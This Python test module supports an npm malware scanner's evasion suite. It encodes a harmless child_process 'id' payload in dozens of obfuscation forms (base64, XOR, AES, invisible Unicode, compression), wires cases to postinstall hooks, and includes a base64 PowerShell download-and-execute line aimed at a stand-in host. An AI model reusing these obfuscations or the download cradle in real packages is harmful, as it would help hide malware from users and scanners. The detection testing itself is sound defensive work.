"""One case of the evasion suite for JavaScript: a package of few files, and which rule has to speak how loudly."""

from __future__ import annotations

import base64
import gzip
import json
import textwrap
import zlib
from typing import TYPE_CHECKING, NamedTuple

from cryptography.hazmat.primitives.ciphers import Cipher
from cryptography.hazmat.primitives.ciphers.algorithms import AES
from cryptography.hazmat.primitives.ciphers.modes import CBC
from cryptography.hazmat.primitives.padding import PKCS7

from assay.rules.catalogue import ALL
from assay.scanner.code.npm.reading import Sources
from assay.scanner.models import Package, PackedFile, Severity
from tests.listed_corpus import ListedCorpus

if TYPE_CHECKING:
    from collections.abc import Iterable, Mapping

    from assay.scanner.models import Finding

CRITICAL, HIGH, MEDIUM, LOW = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW
MAIN, SETUP = "index.js", "setup.js"
_IDENTITY = frozenset({"MAL", "ADV", "IOC", "TYPO", "DEPC", "DENY", "LOCK", "MANI"})
_NO_FILES: dict[str, str] = {}

PAYLOAD = "process.mainModule.require('child_process').execSync('id')"
"""What all encoded cases hide: it runs nothing but ``id``, wherever it is evaluated."""

_DATA = PAYLOAD.encode()
_AES_KEY = bytes(range(32))


class Case(NamedTuple):
    """A snippet under a short name. One of the rules in ``rule`` must give it ``worst`` at least.

    ``rule`` holds ids or families, separated by blanks. ``path`` is the file that the snippet stands in: the package's
    main file, or ``SETUP``, which runs at install; ``files`` is what lies beside it. Words of ``ENCODED`` in brackets,
    as ``<B64>``, stand for the payload. ``unseen`` says what is not seen yet.
    """

    name: str
    rule: str
    worst: Severity
    text: str
    path: str = MAIN
    files: dict[str, str] = _NO_FILES
    unseen: str = ""


class Idiom(NamedTuple):
    """Something that good packages do: no rule may give it ``below`` or worse. Other fields as those of ``Case``.

    ``script`` is what runs at install.
    """

    name: str
    text: str
    path: str = MAIN
    files: dict[str, str] = _NO_FILES
    script: str = ""
    below: Severity = MEDIUM


def _xor(key: bytes) -> list[int]:
    return [byte ^ key[at % len(key)] for at, byte in enumerate(_DATA)]


def _bits(zero: str, one: str) -> str:
    return "".join((zero, one)[int(bit)] for byte in _DATA for bit in f"{byte:08b}")


def _encrypted() -> bytes:
    """The payload under AES-256-CBC with a key of counted bytes and an empty vector."""
    padder = PKCS7(128).padder()
    encryptor = Cipher(AES(_AES_KEY), CBC(bytes(16))).encryptor()
    return encryptor.update(padder.update(_DATA) + padder.finalize()) + encryptor.finalize()


ENCODED = {
    "CODE": PAYLOAD,
    "B64": base64.b64encode(_DATA).decode(),
    "B64URL": base64.urlsafe_b64encode(_DATA).decode().rstrip("="),
    "B64REV": base64.b64encode(_DATA).decode()[::-1],
    "B64TWICE": base64.b64encode(base64.b64encode(_DATA)).decode(),
    "B64UTF16": base64.b64encode(PAYLOAD.encode("utf-16-le")).decode(),
    "HEX": _DATA.hex(),
    "HEXES": "".join(f"\\x{byte:02x}" for byte in _DATA),
    "UNICODES": "".join(f"\\u00{byte:02x}" for byte in _DATA),
    "BRACED": "".join(f"\\u{{{byte:x}}}" for byte in _DATA),
    "OCTALS": "".join(f"\\{byte:03o}" for byte in _DATA),
    "PERCENT": "".join(f"%{byte:02x}" for byte in _DATA),
    "PERCENTU": "".join(f"%u00{byte:02x}" for byte in _DATA),
    "CODES": ",".join(map(str, _DATA)),
    "SHIFTED": ",".join(str(byte + 3) for byte in _DATA),
    "SHIFTEDTEXT": "".join(chr(byte + 1) for byte in _DATA).replace("\\", "\\\\").replace('"', '\\"'),
    "DOUBLED": " ".join(str(byte * 2) for byte in _DATA),
    "XORED": ",".join(map(str, _xor(b"*"))),
    "XORKEY": ",".join(map(str, _xor(b"key"))),
    "XORKEYB64": base64.b64encode(bytes(_xor(b"key"))).decode(),
    "XORKEYHEX": bytes(_xor(b"key")).hex(),
    "REVERSED": PAYLOAD[::-1],
    "DOTTED": ".".join(PAYLOAD),
    "BASE36": ",".join(f'"{divmod(byte, 36)[0]}{"0123456789abcdefghijklmnopqrstuvwxyz"[byte % 36]}"' for byte in _DATA),
    "BITS": " ".join(f"{byte:08b}" for byte in _DATA),
    "BLANKS": _bits(" ", "\\t"),
    "INVISIBLE": _bits("\u200b", "\u200c"),
    "SELECTORS": "".join(chr(0xFE00 + byte if byte < 16 else 0xE0100 + byte - 16) for byte in _DATA),
    "DEFLATED": base64.b64encode(zlib.compress(_DATA)).decode(),
    "GZIPPED": base64.b64encode(gzip.compress(_DATA, mtime=0)).decode(),
    "POWERSHELL": base64.b64encode(
        "IEX (New-Object Net.WebClient).DownloadString('https://example.invalid/a')".encode("utf-16-le")
    ).decode(),
    "ADDRESS": base64.b64encode(b"https://example.invalid/a").decode(),
    "BROTLI": "GzkAGERP1uK9vBXrAoIiAw45cOnSFgUWEAUOOeHHYfMSohAr6QiPuYY+YR+ovk7/TW4KBA==",
    "AESKEY": _AES_KEY.hex(),
    "AES": _encrypted().hex(),
    "BIG": base64.b64encode(bytes(range(256)) * 40).decode(),
}


def written(text: str) -> str:
    """The snippet as it stands in its file."""
    text = textwrap.dedent(text).lstrip("\n")
    for name, value in ENCODED.items():
        text = text.replace(f"<{name}>", value)
    return text


def files_of(case: Case | Idiom) -> dict[str, str]:
    """All files of a case, its package.json included."""
    files = {path: written(text) for path, text in case.files.items()}
    if case.text:
        files[case.path] = written(case.text)
    manifest: dict[str, object] = {"name": "demo", "version": "1.0.0"}
    if isinstance(case, Idiom) and case.script:
        manifest["scripts"] = {"postinstall": case.script}
    elif case.path == SETUP:
        manifest["scripts"] = {"postinstall": f"node {SETUP}"}
    else:
        manifest["main"] = MAIN if MAIN in files else case.path
    return {"package.json": json.dumps(manifest)} | files


def package_of(files: Mapping[str, str], *, every: bool = True) -> Package:
    """The installed package that files make, read with or without the prefilter."""
    sources = Sources(every=every)
    contents = {path: text.encode("utf-8", "surrogatepass") for path, text in sorted(files.items())}
    for path, data in contents.items():
        sources.take(path, data)
    return Package(
        purl="pkg:npm/demo@1.0.0",
        path="node_modules/demo",
        packed="installed",
        ecosystem="npm",
        files=tuple(PackedFile(path, "0" * 64, len(data)) for path, data in contents.items()),
        code=sources.finish("installed", contents).code,
    )


def findings(package: Package) -> list[Finding]:
    """What all rules on behaviour say of a package, in the order of rules."""
    rules = [rule for rule in ALL if rule.check_package and rule.id.partition("-")[0] not in _IDENTITY]
    corpus = ListedCorpus()
    return [found for rule in rules if rule.check_package for found in rule.check_package(package, corpus)]


def speaking(found: Iterable[Finding], rule: str) -> list[Finding]:
    """Those findings that come from one of the rules or families in ``rule``."""
    wanted = tuple(rule.split())
    return [each for each in found if each.rule in wanted or each.rule.partition("-")[0] in wanted]


def told(found: Iterable[Finding]) -> str:
    """Findings as a person reads them when a case fails."""
    return "; ".join(f"{each.rule} {each.severity} {each.message} {each.evidence}" for each in found) or "nothing"
